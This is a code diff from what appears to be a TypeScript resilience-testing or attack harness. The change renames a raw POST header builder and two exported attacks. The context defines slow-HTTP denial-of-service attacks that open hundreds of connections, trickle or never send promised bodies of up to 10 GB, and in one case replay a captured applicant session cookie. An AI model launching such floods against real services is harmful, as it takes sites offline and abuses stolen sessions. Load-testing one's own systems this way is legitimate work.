@@ -52,7 +52,7 @@ export const slowHeaders = trickle({
 export const slowBodies = trickle({
   connections: 1_000,
   each: 100,
-  first: (_number, { origin }) => postHead(origin, '/signup', 20_000),
+  first: (_number, { origin }) => buildPostHead(origin, '/signup', 20_000),
   then: 'x',
 });
 
@@ -63,25 +63,25 @@ export const slowUploads = trickle({
   connections: 500,
   each: 50,
   first: (number, { origin }) =>
-    postHead(origin, BIG_FORMS[number % BIG_FORMS.length] ?? '/', 15_000_000),
+    buildPostHead(origin, BIG_FORMS[number % BIG_FORMS.length] ?? '/', 15_000_000),
   then: 'x'.repeat(1_024),
 });
 
 /** The same by an applicant, who is allowed to send that size. */
-export const slowKnownUploads = trickle({
+export const slowApplicantUploads = trickle({
   connections: 500,
   each: 50,
   first: (_number, { origin, loot }) =>
-    postHead(origin, '/document', 15_000_000, `Cookie: ${loot.applicant}\r\n`),
+    buildPostHead(origin, '/document', 15_000_000, `Cookie: ${loot.applicant}\r\n`),
   then: 'x'.repeat(1_024),
 });
 
 /** Bodies that are promised and never sent: 200 KB, 30 MB and 10 GB. */
-export const neverSent = trickle({
+export const promisedBodies = trickle({
   connections: 900,
   each: 90,
   first: (number, { origin }) =>
-    postHead(origin, '/blogupload', [200_000, 30_000_000, 10_000_000_000][number % 3] ?? 0),
+    buildPostHead(origin, '/blogupload', [200_000, 30_000_000, 10_000_000_000][number % 3] ?? 0),
   then: '',
 });
 
@@ -119,7 +119,7 @@ export const slowReaders: Attack = async (stage) => {
   stage.tally.add(`${sockets.filter(({ destroyed }) => !destroyed).length} open at the end`);
 };
 
-function postHead(origin: string, path: string, bytes: number, more = ''): string {
+function buildPostHead(origin: string, path: string, bytes: number, more = ''): string {
   return (
     `POST ${path} HTTP/1.1\r\nHost: ${new URL(origin).host}\r\nOrigin: ${origin}\r\n` +
     `Content-Type: multipart/form-data; boundary=x\r\nContent-Length: ${bytes}\r\n${more}\r\n`
